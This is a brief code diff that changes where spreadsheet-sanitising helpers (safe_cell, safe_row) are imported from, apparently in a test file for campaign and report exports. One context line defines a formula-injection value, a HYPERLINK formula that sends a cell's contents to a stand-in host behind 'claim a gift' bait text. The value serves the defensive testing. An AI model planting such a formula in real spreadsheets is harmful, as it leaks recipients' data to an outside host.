@@ -11,8 +11,8 @@ from openpyxl import load_workbook
 
 from campaigns import services
 from campaigns.models import Campaign
+from core.spreadsheets import safe_cell, safe_row
 from reports.models import Indicator, IndicatorGroup
-from wards.spreadsheets import safe_cell, safe_row
 
 HOSTILE_NAME = '=HYPERLINK("http://lua-dao.example/?d="&A1,"Bấm để nhận quà")'
 
